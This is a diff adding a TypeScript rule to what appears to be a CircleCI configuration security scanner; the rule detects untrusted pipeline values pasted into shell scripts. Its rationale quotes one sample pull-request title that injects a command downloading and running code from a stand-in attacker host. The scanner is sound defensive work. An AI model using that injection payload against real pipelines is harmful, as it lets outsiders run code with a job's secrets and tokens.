@@ -1,0 +1,118 @@
+import type { ParameterType } from "../../src/config/config.ts";
+import { taintOf } from "../../src/config/pipeline-values.ts";
+import { parseExpression, textSourcesOf } from "../../src/expand/expression.ts";
+import type { UnknownPart } from "../../src/expand/text.ts";
+import type { Hole } from "../../src/expand/script.ts";
+import type { Location, RelatedLocation } from "../../src/finding/location.ts";
+import type { Severity } from "../../src/finding/severity.ts";
+import type { ScriptRun } from "../../src/rule/audit.ts";
+import { defineRule, type Reported } from "../../src/rule/rule.ts";
+import { spanContains } from "../../src/source/span.ts";
+
+export const templateInjection = defineRule({
+  meta: {
+    id: "template-injection",
+    title: "Untrusted text is pasted into a script",
+    summary: "A value that outsiders choose is substituted into a script before the shell reads it.",
+    rationale:
+      "CircleCI replaces `<< >>` with plain text while it compiles the configuration; quotes around it are part of the script and stop nothing. " +
+      'A pull request title such as `"; curl https://attacker.example | sh; "` then runs as commands of the job, with its contexts, its OIDC token and its SSH keys.',
+    remediation:
+      "Give the value to the step as an environment variable and use the variable in double quotes; the shell does not parse a variable's value again.",
+    limits:
+      "Whether an orb runs a parameter as a script is known only when the orb's source is at hand. Values that a script fetches at run time are not followed.",
+    severity: "high",
+    confidence: "high",
+    profile: "regular",
+    data: "config",
+    tags: { owasp: ["CICD-SEC-4"], cwe: ["CWE-78", "CWE-94"] },
+    references: [
+      {
+        title: "CircleCI: pipeline values and parameters",
+        url: "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
+      },
+      {
+        title: "OWASP: poisoned pipeline execution",
+        url: "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution",
+      },
+    ],
+    since: "0.1.0",
+  },
+  *check({ scripts }) {
+    for (const script of scripts) {
+      for (const hole of script.holes) {
+        const source = sourceOf(hole.part);
+        // A ref name holds no line break, so it cannot leave a comment.
+        if (source === undefined || (source.singleLine && isComment(script, hole))) continue;
+        yield report(script, hole, source);
+      }
+    }
+  },
+});
+
+interface Source {
+  readonly name: string;
+  readonly who: string;
+  readonly severity: Severity;
+  readonly singleLine: boolean;
+}
+
+/** The worst source whose text may end up in the hole. */
+function sourceOf(hole: UnknownPart): Source | undefined {
+  const { reason } = hole;
+  if (reason.kind === "pipeline-value") return pipelineSource(reason.name);
+  if (reason.kind === "pipeline-parameter") return parameterSource(reason.name, reason.type);
+  if (reason.kind !== "expression") return undefined;
+  const expression = parseExpression(hole.expression);
+  const sources = (expression === undefined ? [] : textSourcesOf(expression)).flatMap((name) => pipelineSource(name) ?? []);
+  return sources.find((source) => source.severity === "high") ?? sources[0];
+}
+
+function pipelineSource(name: string): Source | undefined {
+  const taint = taintOf(name);
+  if (taint === undefined || taint.level === "safe" || taint.level === "limited") return undefined;
+  return { name, who: taint.who, severity: taint.level === "text" ? "high" : "medium", singleLine: taint.level === "ref" };
+}
+
+/** A parameter without a type takes any text. */
+function parameterSource(name: string, type: ParameterType | undefined): Source | undefined {
+  if (type !== undefined && type !== "string") return undefined;
+  return { name: `pipeline.parameters.${name}`, who: "whoever can trigger a pipeline", severity: "medium", singleLine: false };
+}
+
+/** In a script that was understood, what belongs to no command and no assignment is a comment. */
+function isComment({ facts }: ScriptRun, { span }: Hole): boolean {
+  if (facts.notUnderstood !== undefined) return false;
+  return ![...facts.commands, ...facts.assignments].some((fact) => spanContains(fact.span, span));
+}
+
+function report({ run, step }: ScriptRun, { part, at, origin }: Hole, source: Source): Reported {
+  const name = variableFor(source.name);
+  return {
+    at,
+    severity: source.severity,
+    message:
+      `\`${source.name}\` is pasted into this script before the shell reads it: ${source.who} can write commands that run in ` +
+      `the job \`${run.jobName}\`. Quotes do not help.`,
+    replacement: `environment:\n  ${name}: << ${part.expression} >>\ncommand: |\n  … "$${name}"`,
+    ...(part.hops.length > 0 ? { trace: traceOf(part, origin, at, source) } : {}),
+    route: { run, hops: step.hops },
+  };
+}
+
+function traceOf(part: UnknownPart, origin: Location, at: Location, source: Source): readonly RelatedLocation[] {
+  const passed = [...part.hops].reverse().map((hop) => ({ ...hop.at, label: `it is passed on as \`${hop.name}\`` }));
+  return [{ ...origin, label: `\`${source.name}\` enters here` }, ...passed, { ...at, label: "and becomes part of the script" }];
+}
+
+/** `pipeline.event.github.pull_request.title` → `PULL_REQUEST_TITLE`. */
+function variableFor(name: string): string {
+  const words = name
+    .split(".")
+    .slice(1)
+    .filter((word) => word !== "event" && word !== "github" && word !== "git" && word !== "parameters");
+  return words
+    .join("_")
+    .replace(/[^A-Za-z0-9]+/g, "_")
+    .toUpperCase();
+}
